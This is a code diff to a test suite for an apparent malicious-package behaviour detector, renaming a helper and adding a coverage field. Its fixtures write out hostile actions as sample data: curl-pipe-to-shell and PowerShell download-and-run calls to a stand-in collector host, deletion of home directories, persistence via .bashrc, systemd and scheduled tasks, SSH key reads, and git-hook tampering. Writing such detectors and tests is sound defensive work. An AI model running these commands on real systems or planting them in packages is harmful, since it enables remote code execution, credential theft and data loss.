@@ -33,6 +33,7 @@ function triggerWith(
       },
     ],
     differences: [],
+    coverage: 1,
   };
 }
 
@@ -42,22 +43,22 @@ function idsOf(observation: Observation, kind?: "install" | "import"): readonly 
 
 const file = (api: string, path: string, to?: string): Observation =>
   tried({ kind: "file", api: `fs.${api}`, data: { path, ...(to === undefined ? {} : { to }) } });
-const process_ = (command: string, decoded = false): Observation =>
-  tried({ kind: "process", api: "child_process.exec", data: { command }, decoded });
+const command = (line: string, decoded = false): Observation =>
+  tried({ kind: "process", api: "child_process.exec", data: { command: line }, decoded });
 
 test.each<[string, Observation]>([
   ["planted-secret-sent", tried({ kind: "network", api: "https.request", honey: ["npm-token"] })],
   ["planted-secret-sent", tried({ kind: "dns", api: "dns.lookup", honey: ["aws-key"] })],
-  ["download-executed", process_("curl -s http://collector.invalid/a | sh")],
-  ["download-executed", process_('powershell -c "iex (iwr http://collector.invalid/a)"')],
+  ["download-executed", command("curl -s http://collector.invalid/a | sh")],
+  ["download-executed", command('powershell -c "iex (iwr http://collector.invalid/a)"')],
   ["download-executed", tried({ kind: "code", api: "eval", honey: ["download"] })],
   ["files-destroyed", file("rm", "/home/ada")],
   ["files-destroyed", file("rmSync", "/home/ada/Documents")],
   ["files-destroyed", file("promises.rm", "/")],
-  ["package-published", process_("npm publish --access public")],
+  ["package-published", command("npm publish --access public")],
   ["stays-installed", file("appendFile", "/home/ada/.bashrc")],
   ["stays-installed", file("writeFile", "/home/ada/.config/systemd/user/a.service")],
-  ["stays-installed", process_("schtasks /create /tn a /tr b")],
+  ["stays-installed", command("schtasks /create /tn a /tr b")],
   ["tool-taken-over", file("writeFile", "/home/ada/work/app/.vscode/tasks.json")],
   ["tool-taken-over", file("writeFile", "/home/ada/work/app/.git/hooks/pre-commit")],
   ["tracks-covered", file("unlink", `${places.packageFolder}/setup.js`)],
@@ -65,7 +66,7 @@ test.each<[string, Observation]>([
     "tracks-covered",
     file("rename", `${places.packageFolder}/package.md`, `${places.packageFolder}/package.json`),
   ],
-  ["hidden-command", process_("bash -c id", true)],
+  ["hidden-command", command("bash -c id", true)],
   ["credentials-read", file("readFile", "/home/ada/.ssh/id_ed25519")],
   [
     "hidden-address",
@@ -95,9 +96,9 @@ test.each<[string, Observation]>([
   ["deleting temporary files", file("rm", "/tmp/lib-build")],
   ["deleting a folder of the package", file("rm", `${places.packageFolder}/build`)],
   ["deleting a cache below the home", file("rm", "/home/ada/.cache/lib")],
-  ["starting a compiler", process_("node-gyp rebuild")],
-  ["a shell whose command stands in the package", process_("sh -c 'echo built'")],
-  ["downloading to a file", process_("curl -o a.tgz https://files.example/a.tgz")],
+  ["starting a compiler", command("node-gyp rebuild")],
+  ["a shell whose command stands in the package", command("sh -c 'echo built'")],
+  ["downloading to a file", command("curl -o a.tgz https://files.example/a.tgz")],
 ])("findBehaviours() finds nothing in %s", (_what, observation) => {
   expect(idsOf(observation)).toEqual([]);
 });
